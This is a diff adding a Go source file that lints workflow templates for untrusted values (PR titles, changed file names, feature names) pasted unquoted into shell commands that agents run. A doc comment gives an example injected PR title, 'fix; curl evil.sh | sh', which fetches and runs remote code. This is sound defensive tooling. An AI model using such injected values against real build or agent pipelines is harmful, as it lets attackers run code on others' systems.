@@ -0,0 +1,145 @@
+package formula
+
+import (
+	"fmt"
+	"regexp"
+	"sort"
+	"strings"
+)
+
+// ShellQuoteFunc is the template function that makes an interpolated value
+// safe to paste into a shell command: {{.pr_title | shellquote}}.
+const ShellQuoteFunc = "shellquote"
+
+// ShellMetachars are the characters a POSIX shell gives meaning to.
+const ShellMetachars = "`$;&|<>()\\\"'*?[]{}!#~\n"
+
+// untrustedRefRE finds template references to context that comes from
+// outside the town and may contain anything: PR titles and changed file
+// names from the source host, and the bead title gt sling --on passes to
+// workflow formulas as {{feature}}.
+var untrustedRefRE = regexp.MustCompile(`\.(pr_title|changed_files)\b|^feature$`)
+
+// templateActionRE finds template actions, Go ({{.x}}) and bd ({{x}}) style.
+var templateActionRE = regexp.MustCompile(`\{\{-?\s*(.*?)\s*-?\}\}`)
+
+// shellFenceLangs are the fenced code block languages read as shell; an
+// unlabelled fence counts too, since formula steps mostly fence commands.
+var shellFenceLangs = map[string]bool{"": true, "sh": true, "bash": true, "shell": true, "zsh": true, "console": true}
+
+// ShellFinding is a template action that interpolates untrusted context
+// into a shell command in a formula's text.
+type ShellFinding struct {
+	Field  string // Where the text is, e.g. "legs.security.description"
+	Line   int    // 1-based line within the field
+	Action string // The template action, e.g. "{{.pr_title}}"
+	Ref    string // The untrusted reference, e.g. "pr_title"
+}
+
+func (s ShellFinding) String() string {
+	return fmt.Sprintf("%s line %d: %s puts untrusted %s into a shell command", s.Field, s.Line, s.Action, s.Ref)
+}
+
+// LintShell returns the places f's prompts and descriptions build shell
+// commands by concatenating untrusted context into them. The commands are
+// for agents to run, and a PR title like "fix; curl evil.sh | sh" becomes
+// part of the command line. Such values should be piped through
+// shellquote, or handed over in a file or environment variable instead.
+func LintShell(f *Formula) []ShellFinding {
+	var findings []ShellFinding
+	lint := func(field, text string) {
+		findings = append(findings, LintShellText(field, text)...)
+	}
+
+	names := make([]string, 0, len(f.Prompts))
+	for name := range f.Prompts {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	for _, name := range names {
+		lint("prompts."+name, f.Prompts[name])
+	}
+	for _, leg := range f.Legs {
+		lint("legs."+leg.ID+".description", leg.Description)
+	}
+	if f.Synthesis != nil {
+		lint("synthesis.description", f.Synthesis.Description)
+	}
+	for _, step := range f.Steps {
+		lint("steps."+step.ID+".description", step.Description)
+	}
+	for _, tmpl := range f.Template {
+		lint("template."+tmpl.ID+".description", tmpl.Description)
+	}
+	for _, aspect := range f.Aspects {
+		lint("aspects."+aspect.ID+".description", aspect.Description)
+	}
+	return findings
+}
+
+// LintShellText returns the untrusted interpolations in the shell contexts
+// of text: fenced shell code blocks, inline code spans, and lines starting
+// with "$ ".
+func LintShellText(field, text string) []ShellFinding {
+	var findings []ShellFinding
+	inFence, shellFence := false, false
+	for i, line := range strings.Split(text, "\n") {
+		trimmed := strings.TrimSpace(line)
+		if strings.HasPrefix(trimmed, "```") {
+			if inFence {
+				inFence = false
+			} else {
+				inFence = true
+				shellFence = shellFenceLangs[strings.ToLower(strings.TrimSpace(strings.TrimPrefix(trimmed, "```")))]
+			}
+			continue
+		}
+
+		var segments []string
+		switch {
+		case inFence && shellFence:
+			segments = []string{line}
+		case inFence:
+		case strings.HasPrefix(trimmed, "$ "):
+			segments = []string{trimmed}
+		default:
+			parts := strings.Split(line, "`")
+			for j := 1; j < len(parts)-1; j += 2 {
+				segments = append(segments, parts[j])
+			}
+		}
+
+		for _, seg := range segments {
+			for _, m := range templateActionRE.FindAllStringSubmatch(seg, -1) {
+				if ref := UntrustedRef(m[1]); ref != "" {
+					findings = append(findings, ShellFinding{Field: field, Line: i + 1, Action: m[0], Ref: ref})
+				}
+			}
+		}
+	}
+	return findings
+}
+
+// UntrustedRef returns the untrusted context a template action's body
+// refers to ("pr_title", "changed_files" or "feature"), or "" if it
+// refers to none or pipes it through shellquote.
+func UntrustedRef(action string) string {
+	if strings.Contains(action, ShellQuoteFunc) {
+		return ""
+	}
+	m := untrustedRefRE.FindStringSubmatch(strings.TrimSpace(action))
+	switch {
+	case m == nil:
+		return ""
+	case m[1] != "":
+		return m[1]
+	default:
+		return "feature"
+	}
+}
+
+// HasShellMetachars reports whether s contains characters a shell would
+// interpret.
+func HasShellMetachars(s string) bool {
+	return strings.ContainsAny(s, ShellMetachars)
+}